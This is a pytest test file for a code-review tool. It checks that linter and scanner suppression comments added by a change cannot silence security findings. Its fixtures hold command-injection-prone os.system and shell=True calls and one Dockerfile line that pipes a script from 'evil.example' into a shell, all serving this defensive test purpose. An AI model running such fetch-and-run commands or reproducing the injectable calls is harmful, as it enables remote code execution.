import time
from dataclasses import replace

import pytest

from reviewbot.core import Evidence, Location, Severity, Suppression
from reviewbot.evidence.analyzers import run_analyzers
from reviewbot.evidence.suppressions import mark_suppressions
from tests.evidence.whole_files import BASE, HEAD, Blobs, change_set, modified_file, whole_files

FAULT = "import os\nos.system('ls ' + name){}\n"


def result(path: str, line: int, tool: str = "ruff", rule: str = "S605", **fields: object) -> Evidence:
    item = Evidence("1", "analyzer", tool, rule, Severity.HIGH, "title", location=Location(path, line, line))
    return replace(item, **fields)  # type: ignore[arg-type]


def judge(path: str, base: str, head: str, item: Evidence) -> Suppression:
    blobs: Blobs = {}
    changes = change_set(modified_file(path, base, head, blobs))
    return mark_suppressions([item], changes, blobs.__getitem__)[0].suppression


def judge_added(path: str, head: str, item: Evidence) -> Suppression:
    changes, read_blob = whole_files({path: head})
    return mark_suppressions([item], changes, read_blob)[0].suppression


CASES = [
    ("ruff", "S605", "a.py", "os.system(x)  # noqa", 1),
    ("ruff", "S605", "a.py", "os.system(x)  # noqa: E501, S605", 1),
    ("ruff", "S605", "a.py", "os.system(x)  # NOQA:S6 because", 1),
    ("ruff", "S605", "a.py", "os.system(x)  # nosec", 1),
    ("ruff", "S605", "a.py", "os.system(x)  # nosec B605", 1),
    ("ruff", "S605", "a.py", "os.system(x)  # ruff: ignore[S605]", 1),
    ("ruff", "S605", "a.py", "# ruff: noqa\nos.system(x)", 2),
    ("ruff", "S605", "a.py", "os.system(x)\n# flake8: noqa: S605", 1),
    ("ruff", "S605", "a.py", "# ruff: disable[S605]\n\nos.system(x)", 3),
    ("zizmor", "template-injection", "x.yml", "run: x # zizmor: ignore[artipacked, template-injection]", 1),
    ("hadolint", "DL3004", "Dockerfile", "# hadolint ignore=DL3008,DL3004\nRUN sudo ls", 2),
    ("hadolint", "DL3004", "Dockerfile", "# hadolint global ignore=DL3004\nFROM x\nRUN sudo ls", 3),
    ("detect-secrets", "github-token", "a.py", "x = 1  # pragma: allowlist secret", 1),
    ("detect-secrets", "github-token", "a.py", "# pragma: allowlist nextline secret\nx = 1", 2),
]


@pytest.mark.parametrize(("tool", "rule", "path", "text", "line"), CASES)
def test_a_comment_of_the_base_is_honoured_and_a_new_one_is_not(
    tool: str, rule: str, path: str, text: str, line: int
) -> None:
    item = result(path, line, tool, rule)
    assert judge_added(path, text + "\n", item) is Suppression.CHANGE
    assert judge(path, text + "\n", f"{text}\nmore\n", item) is Suppression.BASE


@pytest.mark.parametrize(
    ("tool", "rule", "text", "line"),
    [
        ("ruff", "S605", "os.system(x)  # noqa: E501", 1),
        ("ruff", "S605", "os.system(x)  # nosec B602", 1),
        ("ruff", "S605", "os.system(x)\nx = 1  # noqa", 1),
        ("ruff", "S605", "# ruff: disable[S605]\n# ruff: enable[S605]\nos.system(x)", 3),
        ("ruff", "S605", "os.system(x)  # zizmor: ignore[S605]", 1),
        ("zizmor", "template-injection", "run: x # zizmor: ignore[artipacked]", 1),
        ("hadolint", "DL3004", "# hadolint ignore=DL3008\nRUN sudo ls", 2),
        ("hadolint", "DL3004", "# hadolint ignore=DL3004\nFROM x\nRUN sudo ls", 3),
    ],
)
def test_a_comment_for_something_else_silences_nothing(tool: str, rule: str, text: str, line: int) -> None:
    item = result("f", line, tool, rule)
    assert judge("f", text + "\n", f"{text}\nmore\n", item) is Suppression.NONE


def test_a_comment_that_the_change_adds_to_an_old_line_is_shown() -> None:
    base, head = FAULT.format(""), FAULT.format("  # noqa: S605")
    assert judge("a.py", base, head, result("a.py", 2)) is Suppression.CHANGE


def test_a_comment_that_moved_along_with_an_edited_line_is_honoured() -> None:
    base, head = "os.system('ls ' + name)  # noqa: S605\n", "os.system('cat ' + name)  # noqa: S605\n"
    assert judge("a.py", base, head, result("a.py", 1)) is Suppression.BASE


def test_one_old_comment_covers_one_new_line_only() -> None:
    base = "os.system('ls ' + name)  # noqa: S605\n"
    head = "os.system('a ' + name)  # noqa: S605\nos.system('b ' + name)  # noqa: S605\n"
    blobs: Blobs = {}
    changes = change_set(modified_file("a.py", base, head, blobs))
    found = mark_suppressions([result("a.py", 1), result("a.py", 2)], changes, blobs.__getitem__)
    assert [item.suppression for item in found] == [Suppression.BASE, Suppression.CHANGE]


def test_a_widened_comment_is_a_new_one() -> None:
    base, head = "os.system(x)  # noqa: E501\n", "os.system(x)  # noqa: E501, S605\n"
    assert judge("a.py", base, head, result("a.py", 1)) is Suppression.CHANGE


def claim(line: int) -> Evidence:
    return result("a.js", line, "semgrep", "x.y", source="sarif", suppression=Suppression.CHANGE)


@pytest.mark.parametrize(
    "comment",
    ["// nosemgrep", "// eslint-disable-line", "/* NOLINT */", "// lgtm[js/x]", "@SuppressWarnings(a)"],
)
def test_a_claim_of_sarif_counts_only_with_a_comment_of_the_base(comment: str) -> None:
    assert judge("a.js", f"f(x) {comment}\n", f"f(x) {comment}\ng()\n", claim(1)) is Suppression.BASE
    assert judge("a.js", f"{comment}\nf(x)\n", f"{comment}\nf(x)\ng()\n", claim(2)) is Suppression.BASE
    assert judge("a.js", "f(x)\n", f"f(x) {comment}\n", claim(1)) is Suppression.CHANGE


def test_a_claim_without_any_comment_stays_a_claim() -> None:
    assert judge("a.js", "f(x)\n", "f(x)\ng()\n", claim(1)) is Suppression.CHANGE


def test_an_old_comment_nearby_does_not_vouch_for_a_new_one() -> None:
    base = "/* eslint-disable */\n// eslint-disable-next-line a\nf(x)\n"
    head = "/* eslint-disable */\n// eslint-disable-next-line a\nf(x) // nosemgrep\n"
    assert judge("a.js", base, head, claim(3)) is Suppression.CHANGE


def test_sarif_without_a_claim_and_results_of_other_commits_are_left_alone() -> None:
    plain = result("a.py", 1, source="sarif")
    old = result("a.py", 1, revision=BASE)
    text = "os.system(x)  # noqa\n"
    assert judge("a.py", text, text + "x\n", plain) is Suppression.NONE
    assert judge("a.py", text, text + "x\n", old) is Suppression.NONE
    assert judge("a.py", text, text + "x\n", result("a.py", 1, revision=HEAD)) is Suppression.BASE
    assert judge("a.py", text, text + "x\n", result("elsewhere.py", 1)) is Suppression.NONE


def test_real_results_of_all_tools_are_marked() -> None:
    blobs: Blobs = {}
    docker = "FROM debian:12.5\n# hadolint ignore=DL3004\nRUN sudo ls\nUSER 1000\n"
    changes = change_set(
        modified_file("a.py", FAULT.format("  # noqa"), FAULT.format("  # noqa") + "x = 1\n", blobs),
        modified_file("Dockerfile", docker.replace("# hadolint ignore=DL3004\n", ""), docker, blobs),
    )
    found = run_analyzers(changes, blobs.__getitem__, names=["ruff", "hadolint"])
    marked = mark_suppressions(found.evidence, changes, blobs.__getitem__)
    assert {item.rule: item.suppression for item in marked if item.severity is Severity.HIGH} == {
        "S605": Suppression.BASE,
        "DL3004": Suppression.CHANGE,
    }


@pytest.mark.parametrize(
    ("base", "head"),
    [
        ("import json  # noqa\n", "os.system(input())  # noqa\n"),
        ("import json  # noqa: S605\n", "os.system(input())  # noqa: S605\n"),
        ("os.system('ls ' + name)  # noqa\n", "os.system('cat ' + name)  # noqa\n"),
        ("os.system('ls')  # noqa: S605\n", "os.system(input())  # noqa: S605\n"),
        ("os.system('ls ' + name)  # nosec\n", "os.system('cat ' + name)  # nosec\n"),
    ],
)
def test_a_new_statement_cannot_borrow_the_comment_of_another(base: str, head: str) -> None:
    assert judge("a.py", base, head, result("a.py", 1)) is Suppression.CHANGE


def test_a_comment_above_a_statement_cannot_be_borrowed_either() -> None:
    comment = "# hadolint ignore=DL3004\n"
    item = result("Dockerfile", 2, "hadolint", "DL3004")
    assert judge("Dockerfile", f"{comment}RUN sudo ls\n", f"x\n{comment}ADD a b\n", replace(item)) is not (
        Suppression.BASE
    )


def test_a_claim_honours_an_edited_line_only_where_the_comment_names_the_rule() -> None:
    base = "f(x) // nosemgrep{}\n"
    head = "f(x, 1) // nosemgrep{}\n"
    assert judge("a.js", base.format(": x.y"), head.format(": x.y"), claim(1)) is Suppression.BASE
    assert judge("a.js", base.format(""), head.format(""), claim(1)) is Suppression.CHANGE
    assert judge("a.js", base.format(": x.yz"), head.format(": x.yz"), claim(1)) is Suppression.CHANGE


def test_a_new_comment_far_down_in_a_long_place_is_doubted_too() -> None:
    base = "// nosemgrep\n" + "f(x)\n" * 200
    item = replace(claim(1), location=Location("a.js", 1, 200))
    assert judge("a.js", base, base + "g()\n", item) is Suppression.BASE
    head = base.replace("f(x)\n" * 200, "f(x)\n" * 150 + "f(x) // nosemgrep\n" + "f(x)\n" * 49)
    assert judge("a.js", base, head, item) is Suppression.CHANGE


@pytest.mark.parametrize("line", ["x = 1  # some text", "# ruff: noqa: A1", "# ruff: disable[S1]", "// skip"])
def test_twenty_five_thousand_results_on_a_long_file_take_seconds(line: str) -> None:
    changes, read_blob = whole_files({"a.py": f"{line}\n" * 100_000})
    whole = Location("a.py", 1, 100_000)
    claims = [replace(claim(1), location=whole) for _ in range(12_500)]
    results = [result("a.py", number * 8 + 1) for number in range(12_500)]
    started = time.process_time()
    found = mark_suppressions([*results, *claims], changes, read_blob)
    assert time.process_time() - started < 15
    assert {item.suppression for item in found} == {Suppression.NONE, Suppression.CHANGE}


UNITS = [
    "skip ",
    "# noqa",
    "# ruff: ignore[a",
    "# ",
    "#\t",
    "# hadolint a ",
    "pragma ",
    "# nosec B1,",
    "f(",
    "aA1",
]


@pytest.mark.parametrize("unit", UNITS)
@pytest.mark.parametrize("length", [2_000, 100_000])
def test_a_hostile_long_line_costs_next_to_nothing(unit: str, length: int) -> None:
    line = (unit * length)[:length]
    tools = [result("a.py", 1, tool) for tool in ("ruff", "zizmor", "hadolint", "detect-secrets")]
    started = time.process_time()
    for comment in ("", "  # noqa: S605"):
        base, head = f"{line}{comment}\n", f"{line}x{comment}\n"
        for item in (*tools, replace(claim(1), location=Location("a.py", 1, 1))):
            judge("a.py", base, head, item)
    assert time.process_time() - started < 3


CALL = "subprocess.run(\n    cmd,{}\n    check=True,\n)\n"


def multi(base: str, head: str, last: int, rule: str = "S602") -> Suppression:
    return judge("a.py", base, head, result("a.py", 1, rule=rule, location=Location("a.py", 1, last)))


def test_a_comment_inside_a_call_that_the_change_touched_must_name_the_rule() -> None:
    def with_shell(text: str) -> str:
        return text.replace("    check=True,\n", "    check=True,\n    shell=True,\n")

    for comment in ("  # noqa", "  # nosec", "  # noqa: S"):
        base = CALL.format(comment)
        assert multi(base, with_shell(base), 5) is Suppression.CHANGE, comment
        assert multi(base, base + "x = 1\n", 4) is Suppression.BASE, comment
        assert multi(base, base.replace("    check=True,\n", ""), 3) is Suppression.CHANGE, comment
    named = CALL.format("  # noqa: S602")
    assert multi(named, with_shell(named), 5) is Suppression.CHANGE
    assert multi(named, named.replace("    check=True,\n", ""), 3) is Suppression.BASE
    assert (
        multi(CALL.format("  # noqa : E501"), with_shell(CALL.format("  # noqa : E501")), 5)
        is Suppression.NONE
    )


@pytest.mark.parametrize(
    "comment", ["# noqa : E501", "# noqa:", "# noqa: 12", "# nosec : B602", "# nosec assert_used"]
)
def test_a_comment_with_a_list_names_no_rule_outside_it(comment: str) -> None:
    text = f"os.system(x)  {comment}\n"
    assert judge("a.py", text, text + "x = 1\n", result("a.py", 1)) is Suppression.NONE


@pytest.mark.parametrize(
    "comment", ["# noqa : S605", "# NOQA :S605, E501", "# nosec : B605", "# nosec: some words"]
)
def test_a_comment_with_blanks_around_its_colon_still_names_the_rule(comment: str) -> None:
    text = f"os.system(x)  {comment}\n"
    assert judge("a.py", text, text + "x = 1\n", result("a.py", 1)) is Suppression.BASE


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('"""\n# ruff: noqa\n"""\nos.system(x)\n', 4),
        ('x = """\n# ruff: disable[S605]\n"""\nos.system(x)\n', 4),
        ("os.system('ls # noqa: S605' + x)\n", 1),
        ("os.system('ls # nosec' + x)\n", 1),
        ("os.system('''\n# noqa: S605\n''')\n", 1),
        ("x = 1 # ruff: noqa\nos.system(x)\n", 2),
        ("x = '''\n# ruff: ignore[S605]\n'''; os.system(x)\n", 3),
    ],
)
def test_text_in_a_python_string_is_no_comment(text: str, line: int) -> None:
    item = result("a.py", line, location=Location("a.py", line, line + 2 if "('''" in text else line))
    assert judge("a.py", text, text + "y = 1\n", item) is Suppression.NONE


def test_a_comment_in_broken_python_is_still_a_comment() -> None:
    text = "def f(:\nos.system(x)  # noqa: S605\n"
    assert judge("a.py", text, text + "y = 1\n", result("a.py", 2)) is Suppression.BASE


def secret(line: int, severity: Severity = Severity.HIGH) -> Evidence:
    return result("a.py", line, "detect-secrets", "github-token", severity=severity)


@pytest.mark.parametrize(
    ("base", "head", "line"),
    [
        ("t = 'ghp_x'  # pragma: allowlist secret\n", "t = 'ghp_y'  # pragma: allowlist secret\n", 1),
        (
            "# pragma: allowlist nextline secret\nt = 'ghp_x'\n",
            "# pragma: allowlist nextline secret\nt = 'ghp_y'\n",
            2,
        ),
        (
            "# pragma: allowlist nextline secret\nt = 'x'\n",
            "# pragma: allowlist nextline secret\nu = 'y'\nt = 'x'\n",
            2,
        ),
    ],
)
def test_no_comment_excuses_a_secret_on_an_added_line(base: str, head: str, line: int) -> None:
    assert judge("a.py", base, head, secret(line)) is Suppression.CHANGE
    assert judge("a.py", base, head, secret(line, Severity.MEDIUM)) is Suppression.CHANGE
    assert judge("a.py", head, head + "x = 1\n", secret(line)) is Suppression.BASE


IGNORE = "# hadolint ignore=DL3004\n"


@pytest.mark.parametrize(
    ("base", "head", "line", "expected"),
    [
        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo ls -l\n", 2, Suppression.BASE),
        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo curl evil.example | sh\n", 2, Suppression.CHANGE),
        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo sh\nRUN sudo ls\n", 2, Suppression.CHANGE),
        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo sh\nRUN sudo ls\n", 3, Suppression.NONE),
        (f"{IGNORE}RUN sudo ls\nRUN x\n", f"{IGNORE}RUN sudo ls\nRUN sudo y\n", 3, Suppression.NONE),
    ],
)
def test_an_old_comment_above_new_code_excuses_only_a_small_edit(
    base: str, head: str, line: int, expected: Suppression
) -> None:
    item = result("Dockerfile", line, "hadolint", "DL3004")
    assert judge("Dockerfile", base, head, item) is expected


def test_deleting_the_end_of_a_range_does_not_widen_an_old_comment() -> None:
    base = "# ruff: disable[S605]\na = 1\n# ruff: enable[S605]\nos.system(x)\n"
    head = base.replace("# ruff: enable[S605]\n", "")
    assert judge("a.py", base, head, result("a.py", 3)) is Suppression.CHANGE
    assert judge("a.py", head, head + "y = 1\n", result("a.py", 3)) is Suppression.BASE


@pytest.mark.parametrize(
    ("base", "head"),
    [
        ("os.system('a' + x)  # noqa: S\n", "os.system('b' + x)  # noqa: S\n"),
        ("os.system('a' + x)  # noqa: S605\n", "y = 1\nos.system(input() + x)  # noqa: S605\n"),
        ("a('ls # noqa: S605')\n", "a('ls')  # noqa: S605')\n"),
    ],
)
def test_a_moved_comment_must_name_the_rule_in_full_and_have_been_a_comment(base: str, head: str) -> None:
    line = head.count("\n")
    assert judge("a.py", base, head, result("a.py", line)) is Suppression.CHANGE


def test_a_bare_comment_on_a_long_call_does_not_excuse_a_flag_far_below() -> None:
    base = (
        "import subprocess\nsubprocess.run(  # noqa\n    a + b,\n"
        + "".join(f"    x{n}=1,\n" for n in range(60))
        + ")\n"
    )
    head = base.replace("x59=1,\n)", "x59=1,\n    shell=True,\n)")
    blobs: Blobs = {}
    changes = change_set(modified_file("b.py", base, head, blobs))
    marked = mark_suppressions(
        run_analyzers(changes, blobs.__getitem__, names=["ruff"]).evidence, changes, blobs.__getitem__
    )
    found = [item.suppression for item in marked if item.rule == "S602"]
    assert found == [Suppression.CHANGE]


S602 = "subprocess.call(  # noqa: S602\n    {},\n    shell=True,\n)\n"
ONE_LINE = "subprocess.call({}, shell=True)  # noqa: S602\n"


@pytest.mark.parametrize("text", [S602, ONE_LINE])
@pytest.mark.parametrize(
    "new",
    [
        "sys.argv[1]",
        "cmd",
        "'ls ' + cmd",
        "f'ls {cmd}'",
        'f"{"" + cmd + ""}"',
        'f"{\'}\' + "" + cmd + ""}"',
        "'ls' 'a', cmd",
        "rf'{cmd}'",
    ],
)
def test_a_literal_that_becomes_a_value_is_not_covered_by_an_old_comment(text: str, new: str) -> None:
    last = text.count("\n")
    assert multi(text.format("'ls'"), text.format(new), last) is Suppression.CHANGE
    low = result("a.py", 1, rule="S602", location=Location("a.py", 1, last), severity=Severity.MEDIUM)
    assert judge("a.py", ONE_LINE.format("'ls'"), ONE_LINE.format("cmd"), low) is Suppression.BASE


@pytest.mark.parametrize("text", [S602, ONE_LINE])
def test_a_literal_that_becomes_another_one_is_still_covered(text: str) -> None:
    last = text.count("\n")
    assert multi(text.format("'ls -a'"), text.format("'ls -b'"), last) is Suppression.BASE
    assert multi(text.format("f'ls {a}'"), text.format("f'ls {a}' # x"), last) is Suppression.BASE
    comment = text.format("'ls -a'").replace("    shell", "\n    # why\n    shell")
    assert multi(text.format("'ls -a'"), comment, comment.count("\n")) is Suppression.BASE


def test_a_line_that_closes_a_long_string_is_read_as_what_it_is() -> None:
    base = 'call(  # noqa: S602\n    """\nls""", "aaaaaaaaaaaa",\n    shell=True)\n'
    head = base.replace(', "aaaa', ', cmd, "aaaa')
    assert multi(base, head, 4) is Suppression.CHANGE
    assert multi(base, base.replace("aaaa", "aaab"), 4) is Suppression.BASE


def test_moving_the_end_of_a_range_down_covers_nothing_more() -> None:
    begin, end = "# ruff: disable[S605]\na = 1\n", "# ruff: enable[S605]\n"
    covered = "os.system(x)\nb = 2\nc = 3\n"
    base, head = f"{begin}{end}{covered}", f"{begin}{covered}{end}"
    assert judge("a.py", base, head, result("a.py", 3)) is Suppression.CHANGE


@pytest.mark.parametrize("old", ["# pylint: disable=C0114\n\n", "# pylint: skip-file\n\n"])
def test_a_file_wide_comment_does_not_vouch_for_a_claim_about_another_rule(old: str) -> None:
    item = replace(claim(3), rule="B602")
    call = "call(\n  x,\n)"
    assert judge("a.js", f"{old}{call}\n", f"{old}{call}  # nosec\n", item) is Suppression.CHANGE
    kept = Suppression.BASE if "skip" in old else Suppression.CHANGE
    assert judge("a.js", f"{old}{call}\n", f"{old}{call}\nx = 1\n", item) is kept
    named = old.replace("C0114", "C0114,B602")
    assert judge("a.js", f"{named}{call}\n", f"{named}{call}\nx = 1\n", item) is Suppression.BASE


def test_a_claim_does_not_cover_a_literal_that_became_a_value() -> None:
    text = "call({}, shell=True)  # nosec B602\n"
    item = replace(claim(1), rule="B602", location=Location("a.py", 1, 1))
    assert judge("a.py", text.format("'ls'"), text.format("cmd"), item) is Suppression.CHANGE
    assert judge("a.py", text.format("'ls'"), text.format("'lsb'"), item) is Suppression.BASE
